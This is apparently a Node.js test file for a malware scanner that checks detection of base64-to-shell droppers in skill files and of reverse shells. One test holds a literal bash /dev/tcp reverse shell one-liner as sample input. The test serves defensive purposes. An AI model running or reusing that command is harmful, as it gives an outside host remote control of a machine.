'use strict';
const test = require('node:test');
const assert = require('node:assert');
const fs = require('fs'), path = require('path');
const { scanText } = require('../lib/scan');

test('flags base64-to-shell and decodes the payload', () => {
  const t = fs.readFileSync(path.join(__dirname, 'fixtures', 'dropper-skill.md.txt'), 'utf8');
  const f = scanText('SKILL.md', t);
  assert.ok(f.some((x) => x.rule === 'base64-to-shell'));
  assert.ok(f.some((x) => x.rule === 'skill-terminal-paste'));
});

test('flags a /dev/tcp reverse shell string', () => {
  const f = scanText('x.sh', 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1');
  assert.ok(f.some((x) => x.rule === 'reverse-shell-devtcp'));
});

test('does not flag ordinary code', () => {
  assert.deepStrictEqual(scanText('index.js', 'module.exports = (a, b) => a + b;'), []);
});
